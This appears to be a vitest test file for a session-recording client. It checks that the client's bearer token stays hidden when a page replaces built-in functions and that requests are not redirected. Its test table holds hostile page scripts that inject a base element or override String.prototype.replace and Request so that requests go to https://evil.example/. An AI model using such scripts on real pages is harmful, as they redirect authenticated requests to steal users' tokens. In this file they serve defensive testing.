import type { FlowLensClient, FlowLensClientOptions } from '@flowlens/client';
import { describe, expect, it } from 'vitest';
import { openPage, type TestPage } from '../test-support/open-page.js';
import { type Sightings, spyOnBuiltIns } from '../test-support/hostile-spies.js';

const SERVER = 'https://flowlens.example';
const SECRET = 'canary-7d1f';
const DEAD = `fl_rec_${SECRET}-dead`;
const FRESH = `fl_rec_${SECRET}-fresh`;

// The page replaces the built-ins of its requests; the test's own requests read them nevertheless.
const headersOf = Object.getOwnPropertyDescriptor(Request.prototype, 'headers')!.get!;
const urlOf = Object.getOwnPropertyDescriptor(Request.prototype, 'url')!.get!;
const read = (request: Request) => ({
  url: urlOf.call(request) as string,
  authorization: Headers.prototype.get.call(headersOf.call(request) as Headers, 'authorization'),
});

type Fetch = NonNullable<FlowLensClientOptions['fetch']>;

/** A page whose client has a rejected token and gets a new one. */
async function openClient(options: (page: TestPage, fetch: Fetch) => Partial<FlowLensClientOptions>) {
  const page = await openPage();
  const sent: ReturnType<typeof read>[] = [];
  const respond: Fetch = (request) => {
    const { url, authorization } = read(request);
    sent.push({ url, authorization });
    const status = authorization === `Bearer ${FRESH}` ? 200 : 401;
    const headers = { location: `${SERVER}/uploads/u1`, 'upload-offset': '3' };
    return Promise.resolve(new page.window.Response('{"id":"f1"}', { status, headers }));
  };
  let token = DEAD;
  const getAccessToken: FlowLensClientOptions['getAccessToken'] = ({ forceRefresh = false } = {}) =>
    forceRefresh ? (token = FRESH) : token;
  const { createFlowLensClient } = await page.api.loadClient();
  const client = createFlowLensClient({
    baseUrl: SERVER,
    getAccessToken,
    credentials: 'omit',
    ...options(page, respond),
  });
  return { page, client, sent, respond };
}

const install = (page: TestPage) => page.run<(secret: string) => Sightings>(`(${String(spyOnBuiltIns)})`)(SECRET);

/** Makes the calls of sending a recording. */
async function send({ recorder }: FlowLensClient): Promise<void> {
  await Promise.all([recorder.createFlow({ title: 'A bug', recorded_at: '' }), recorder.complete('f1')]);
  await recorder.appendEvents('f1', 0, [{ type: 'metadata' }]);
  await recorder.createUpload({ flowId: 'f1', mimeType: 'video/mp4' });
  await recorder.appendUpload('u1', { offset: 0, bytes: new Uint8Array([1, 2, 3]) });
  await recorder.uploadOffset('u1');
}

describe('the client’s token', () => {
  it('stays hidden from built-ins that a script replaces after the client took fetch', async () => {
    const { page, client, sent } = await openClient((_page, fetch) => ({ fetch }));
    const sightings = install(page);

    await send(client);

    expect(await sightings()).toEqual([]);
    const tokens = sent.map(({ authorization }) => authorization);
    expect(tokens.filter((one) => one === `Bearer ${DEAD}`)).toHaveLength(2);
    expect(tokens.filter((one) => one === `Bearer ${FRESH}`)).toHaveLength(6);
  });

  it('is visible to a replaced fetch when the client took none', async () => {
    const { page, client, respond } = await openClient(() => ({}));
    page.window.fetch = (request) => respond(request as Request);
    const sightings = install(page);

    await send(client);

    expect(await sightings()).toContain('fetch');
  });

  it.each([
    [
      'an empty base address',
      '',
      '{ const base = document.createElement("base"); base.href = "https://evil.example/"; document.head.append(base); }',
    ],
    ['an address with other text', SERVER, 'String.prototype.replace = () => "https://evil.example/";'],
    ['an address that continues the host', SERVER, `String.prototype.replace = () => "${SERVER}.evil.example/";`],
    [
      'an object that looks like the address',
      SERVER,
      `{ const text = Object.assign(new String("${SERVER}/"), { toString: () => "https://evil.example/" }); String.prototype.replace = () => text; }`,
    ],
    [
      'another request',
      SERVER,
      `{ const { Request } = globalThis; globalThis.Request = function () { return new Request("https://evil.example/"); }; }`,
    ],
  ])('goes to no other server when a script makes the page request %s', async (_what, baseUrl, script) => {
    const { page, client, sent } = await openClient((_page, fetch) => ({ fetch, baseUrl }));
    page.run(`${script} 0`);

    await send(client).catch(() => undefined);

    const home = baseUrl || page.window.location.origin;
    expect(sent.filter(({ url, authorization }) => authorization && !url.startsWith(`${home}/`))).toEqual([]);
  });
});
